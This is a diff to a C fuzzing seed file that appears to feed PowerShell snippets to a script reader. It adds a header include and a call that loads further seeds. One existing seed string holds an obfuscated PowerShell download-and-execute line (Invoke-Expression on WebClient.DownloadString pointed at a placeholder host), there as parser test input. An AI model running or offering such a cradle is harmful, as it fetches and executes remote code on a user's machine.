@@ -3,6 +3,7 @@
  * chooses every byte.
  */
 #include "reader_truths.h"
+#include "tool_seeds.h"
 
 #include "read/readers.h"
 
@@ -20,6 +21,7 @@ static void seed(void (*run)(const void *bytes, size_t n), const char *text)
 /* The first byte is a character of the text: blanks and letters cut it at an eighth to a half. */
 void fuzz_seeds(void (*run)(const void *bytes, size_t n))
 {
+	literal_seeds("", "read/test_ps.c", run);
 	seed(run, " param([string]$Url = 'http://a.example', [switch]$q)\nfunction Get-It { param($x) begin { 1 } process { $_ } end { return $x } }\n"
 		  "i`e`x (New-Object Net.WebClient).DownloadString($Url); & ('i'+'ex') $r | % { $_ -bxor 5 } > out.txt 2>&1\n");
 	seed(run, "@\"\nhi $x $($y.z) `n\n\"@ + @'\nraw\n'@ -replace 'a','b' -split ',' -join '' ; \"{1}{0}\" -f 'a','b'; $x[-1..-5]; [char[]](1,2); ,1; @{ a = 1; 'b' = @(1,2) }\n");
